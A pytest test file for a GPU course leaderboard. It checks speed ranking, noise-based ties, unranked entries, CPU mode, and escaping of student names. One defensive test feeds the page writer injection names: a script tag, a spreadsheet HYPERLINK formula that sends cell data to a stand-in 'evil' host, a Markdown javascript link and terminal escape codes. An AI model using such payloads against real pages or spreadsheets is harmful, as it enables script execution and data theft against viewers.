"""The workshop leaderboard (gpucourse/grading/leaderboard.py): ranking by measured speed, ties within the noise,
what is not ranked and why, CPU mode, and names escaped on the page. The reports are written by hand with the perf
fields a GPU batch gives (no GPU here); the command line that writes the page is tests/test_gradebook.py's."""
from __future__ import annotations

import html.parser

import pytest

from gpucourse.grading import grader, leaderboard

GPU_ENV = {"mode": "gpu", "gpu": "NVIDIA H100 80GB HBM3", "torch": "2.11.0", "triton": "3.6.0", "driver": "570.1"}


def _result(name, status="passed", ms=None, spread=0.02, ratio=None, flags=(), suspicious=False, met=True):
    r = {"submission": f"/course/submitted/{name}/00/x.py", "status": status, "score": 1.0 if status == "passed"
         else 0.0, "message": "m", "checks": [], "flags": list(flags), "seconds": 1.0, "timing": "alone on GPU 0"}
    if ms is not None:
        r["perf"] = {"baseline": "the reference", "ratio": ratio if ratio is not None else 1.0 / ms, "target": 1.0,
                     "ms": ms, "q25_ms": ms * (1 - spread), "q75_ms": ms * (1 + spread), "pct_of_peak": 50.0 / ms,
                     "met": met, "suspicious": suspicious, "text": "t"}
    return r


def _report(results, env=GPU_ENV):
    return {"exercise": "vector_add", "environment": dict(env, fingerprint="f"), "isolation": {"level": "bubblewrap"},
            "results": results}


def _names(report):
    return {r["submission"]: r["submission"].split("/")[3] for r in report["results"]}


def test_ranked_by_time_with_ties_inside_the_quartiles():
    # bob 1.00 ms and carol 1.01 ms overlap (±2%): a tie for 2nd; dan 1.50 ms is 4th (competition ranking).
    report = _report([_result("dan", ms=1.5), _result("bob", ms=1.0), _result("ann", ms=0.5),
                      _result("carol", ms=1.01), _result("failedfrank", status="failed")])
    b = leaderboard.board(report, _names(report))
    assert [(r["rank"], r["tied"], r["name"]) for r in b["ranked"]] == [
        (1, False, "ann"), (2, True, "bob"), (2, True, "carol"), (4, False, "dan")]
    assert b["passed"] == 4 and b["graded"] == 5 and b["ties_known"]
    md = leaderboard.markdown(b)
    assert "| =2 | bob |" in md and "| =2 | carol |" in md and "| 4 | dan |" in md and "| 1 | ann |" in md
    assert "failedfrank" not in md  # a failing submission is not on the page
    assert "0.500 ms (0.490-0.510)" in md and "2.00x the reference" in md and "100%" in md
    assert "within the measured noise" in md


def test_a_chain_of_overlaps_is_one_tie_and_separate_spreads_are_not():
    # a overlaps b, b overlaps c (a and c do not): one group; d is clear of all.
    report = _report([_result("a", ms=1.00, spread=0.05), _result("b", ms=1.08, spread=0.05),
                      _result("c", ms=1.16, spread=0.05), _result("d", ms=2.0, spread=0.01)])
    ranks = [(r["name"], r["rank"], r["tied"]) for r in leaderboard.board(report, _names(report))["ranked"]]
    assert ranks == [("a", 1, True), ("b", 1, True), ("c", 1, True), ("d", 4, False)]
    tight = _report([_result("a", ms=1.00, spread=0.01), _result("b", ms=1.08, spread=0.01)])
    assert [r["tied"] for r in leaderboard.board(tight, _names(tight))["ranked"]] == [False, False]


def test_not_ranked_and_said_why():
    report = _report([_result("fast", ms=0.001, suspicious=True,
                              flags=["speed above the device's physical limit: 9,000 GB/s"]),
                      _result("nospeed", flags=["speed could not be measured: RuntimeError: boom"]),
                      _result("sneaky", ms=0.5,
                              flags=["source walks the garbage collector (gc.get_objects/referrers)"]),
                      _result("slow", ms=2.0, met=False, flags=["below the speed target: 0.5x"]),
                      _result("ok", ms=1.0)])
    b = leaderboard.board(report, _names(report))
    assert [r["name"] for r in b["ranked"]] == ["ok", "slow"]  # below the target is ranked, marked "below"
    why = dict(b["unranked"])
    assert set(why) == {"fast", "nospeed", "sneaky"}
    assert "physical limit" in why["fast"] and "boom" in why["nospeed"] and "gc.get_objects" in why["sneaky"]
    md = leaderboard.markdown(b)
    assert "Passed but not ranked" in md and "| 2 | slow |" in md and "below |" in md


def test_without_quartiles_ranks_by_ratio_and_says_ties_cannot_be_told():
    report = _report([_result("a"), _result("b")])
    report["results"][0]["perf"] = {"ratio": 0.9, "met": False, "baseline": "a torch copy"}
    report["results"][1]["perf"] = {"ratio": 1.1, "met": True, "baseline": "a torch copy"}
    b = leaderboard.board(report, _names(report))
    assert [r["name"] for r in b["ranked"]] == ["b", "a"] and not b["ties_known"]
    md = leaderboard.markdown(b)
    assert "Ties cannot be told" in md and "not reported" in md and "1.10x a torch copy" in md


def test_cpu_mode_has_no_ranking_and_says_so():
    report = _report([_result("zed"), _result("amy"), _result("crashedkid", status="crashed")],
                     env={"mode": "cpu", "gpu": None, "torch": "2.13.0+cpu", "triton": "3.9.0", "driver": None})
    b = leaderboard.board(report, _names(report))
    assert b["ranked"] == [] and b["unranked_passing"] == ["amy", "zed"]
    for page in (leaderboard.markdown(b), leaderboard.html_page(b)):
        assert "CPU mode: no speed was measured" in page and "no ranking" in page
        assert page.index("amy") < page.index("zed") and "crashedkid" not in page


class _Collect(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


HOSTILE = ['<script>alert(1)</script>', '=HYPERLINK("http://evil/?"&A1,"x")', "a|b](javascript:x)*_`",
           "\x1b[2J\x1b[Hfake\nline"]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_are_text_on_both_pages(name, tmp_path):
    report = _report([_result("x", ms=1.0), _result("y", ms=2.0)])
    names = {report["results"][0]["submission"]: name, report["results"][1]["submission"]: "y"}
    leaderboard.write(report, str(tmp_path / "b.html"), names)
    leaderboard.write(report, str(tmp_path / "b.md"), names)
    page = (tmp_path / "b.html").read_text()
    parsed = _Collect()
    parsed.feed(page)
    assert "script" not in parsed.tags and "a" not in parsed.tags  # no tag from the name, only the page's own
    assert set(parsed.tags) <= {"html", "head", "meta", "title", "style", "body", "h1", "p", "table", "thead",
                                "tbody", "tr", "th", "td", "small", "ul", "li"}
    assert "\x1b" not in page and "Content-Security-Policy" in page
    assert leaderboard.printable(name) in "".join(parsed.text)  # shown, as text
    md = (tmp_path / "b.md").read_text()
    row = next(line for line in md.splitlines() if line.startswith("| 1 |"))
    assert row.count("|") - row.count("\\|") == 7  # the name opened no extra cell
    assert "\x1b" not in md and "<script>" not in md and "](" not in md
    assert len([line for line in md.splitlines() if line.startswith("| ")]) == 3  # header + 2 rows: no split line


def test_perf_fields_keep_plain_finite_numbers_only():
    got = grader._perf_fields({"ratio": "1.5", "ms": float("nan"), "q25_ms": float("inf"), "q75_ms": [1],
                               "pct_of_peak": 40, "met": "yes", "suspicious": 1, "text": "x" * 1000, "evil": 1},
                              "copy")
    assert got == {"baseline": "a torch copy", "ratio": 1.5, "pct_of_peak": 40.0, "met": False, "suspicious": False,
                   "text": "x" * 300}
    assert grader._perf_fields({}, "reference")["baseline"] == "the reference"
